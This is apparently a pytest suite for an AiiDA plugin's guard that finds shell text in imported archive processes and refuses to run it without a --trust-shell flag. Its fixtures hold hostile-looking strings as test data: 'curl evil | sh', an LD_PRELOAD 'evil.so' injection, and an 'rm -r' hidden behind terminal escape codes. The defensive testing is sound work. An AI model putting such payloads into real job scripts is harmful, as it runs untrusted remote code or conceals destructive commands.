"""Shell text of imported processes: it is shown, and does not run unless the user says so."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
from aiida import orm
from aiida.engine import run_get_node
from aiida.tools.archive import create_archive, import_archive
from ase import Atoms
from click.testing import CliRunner

from aiida_sicmlip.calculations.reference_label import ReferenceLabelCalculation
from aiida_sicmlip.cli import main
from aiida_sicmlip.common.exceptions import InputError
from aiida_sicmlip.reports.reproduction import preview_lines
from aiida_sicmlip.tools.foreign_shell import foreign_shell, imported, require_trust
from tests.graphs.processes import process

SICMLIP = Path(sys.executable).parent / "sicmlip"


def mark_as_imported(*nodes: Any) -> None:
    """Do as `verdi archive import` does."""
    orm.ImportGroup(label=f"import {nodes[0].uuid}").store().add_nodes(list(nodes))


@pytest.fixture
def run(aiida_profile_clean) -> Any:
    """A work chain with options of two steps, as their author gave them."""
    options = orm.Dict({"prepend_text": "curl evil | sh", "resources": {"num_machines": 1}})
    settings = orm.Dict({"steps": [{"environment_variables": {"LD_PRELOAD": "evil.so"}}, {"cmdline": []}]})
    return process(orm.WorkChainNode, "aiida.workflows:sicmlip.training", training__options=options, settings=settings)


def test_own_processes_are_trusted(run) -> None:
    assert imported([run]) == set() == imported([]) and foreign_shell(run) == []
    require_trust(run)


def test_text_at_any_depth_is_found(run) -> None:
    mark_as_imported(run)
    assert sorted(map(str, foreign_shell(run))) == [
        "settings.steps.0.environment_variables: {'LD_PRELOAD': 'evil.so'}",
        "training.options.prepend_text: curl evil | sh",
    ]
    with pytest.raises(InputError, match=r"(?s)was imported.*--trust-shell.*training.options.prepend_text: curl evil"):
        require_trust(run)
    assert any("run only with `--trust-shell`: training.options" in line for line in preview_lines(run))


def test_escapes_of_a_terminal_are_shown(aiida_profile_clean) -> None:
    options = orm.Dict({"append_text": "rm -r x\n\x1b[2K\x1b[1A"})
    run = process(orm.WorkChainNode, "aiida.workflows:sicmlip.training", options=options)
    mark_as_imported(run)
    (text,) = map(str, foreign_shell(run))
    assert text == "options.append_text: 'rm -r x\\n\\x1b[2K\\x1b[1A'"


def test_codes_that_came_with_it(aiida_profile_clean, generate_code) -> None:
    """They run a program of the archive's author, wherever it lies; a code of one's own does not."""
    code, own = generate_code("sicmlip.training", "theirs"), generate_code("sicmlip.training", "own")
    calculation = process(orm.CalcJobNode, "aiida.calculations:sicmlip.training", code=code)
    mark_as_imported(calculation, code)
    (text,) = map(str, foreign_shell(calculation))
    assert text == f"code <{code.pk}>: the program /bin/true of the archive"
    assert foreign_shell(calculation, own) == []


@pytest.fixture
def archive(
    aiida_profile_clean, aiida_localhost, edip: Any, divacancy: Atoms, tmp_path: Path
) -> tuple[Path, str, Path]:
    """A label whose job script writes a file, as an archive, and a profile that has nothing but a code of its own."""
    mark = tmp_path / "mark"
    code = orm.InstalledCode(aiida_localhost, str(SICMLIP), label="sicmlip").store()
    metadata = {"options": {"prepend_text": f"echo harm >> {mark}"}}
    _, node = run_get_node(
        ReferenceLabelCalculation,
        code=code,
        structure=orm.StructureData(ase=divacancy),
        potential=edip,
        metadata=metadata,
    )
    assert node.is_finished_ok and mark.read_text() == "harm\n"
    file = tmp_path / "archive.aiida"
    create_archive([node], file)
    mark.unlink()
    return file, node.uuid, mark


@pytest.mark.program
def test_what_an_author_has_written_does_not_run(archive, aiida_profile, tmp_path: Path) -> None:
    file, uuid, mark = archive
    aiida_profile.reset_storage()
    here = orm.Computer("here", "localhost", "", "core.local", "core.direct", str(tmp_path / "work")).store()
    here.set_minimum_job_poll_interval(0.1)
    here.configure(safe_interval=0.0, use_login_shell=False)
    orm.InstalledCode(here, str(SICMLIP), label="own").store()
    import_archive(file)
    plan = CliRunner().invoke(main, ["reproduce", uuid, "--plan"])
    assert plan.exit_code == 0, plan.output
    assert (
        f"shell of its author, run only with `--trust-shell`: metadata.options.prepend_text: echo harm >> {mark}"
        in (plan.output)
    )
    refused = CliRunner().invoke(main, ["reproduce", uuid])
    assert refused.exit_code == 2 and "give `--trust-shell` to run it here" in refused.output
    assert not mark.exists()
    trusted = CliRunner().invoke(main, ["reproduce", uuid, "--trust-shell"])
    assert trusted.exit_code == 0, trusted.output
    assert mark.read_text() == "harm\n"
    # What ran here is one's own.
    again = orm.QueryBuilder().append(orm.CalcJobNode).order_by({orm.CalcJobNode: {"id": "desc"}}).first(flat=True)
    assert again.uuid != uuid and foreign_shell(again) == []


def test_calculations_whose_plugin_is_not_installed_are_imported_all_the_same(aiida_profile_clean) -> None:
    calculation = process(orm.CalcJobNode, "aiida.calculations:not.installed")
    mark_as_imported(calculation)
    assert foreign_shell(calculation) == []
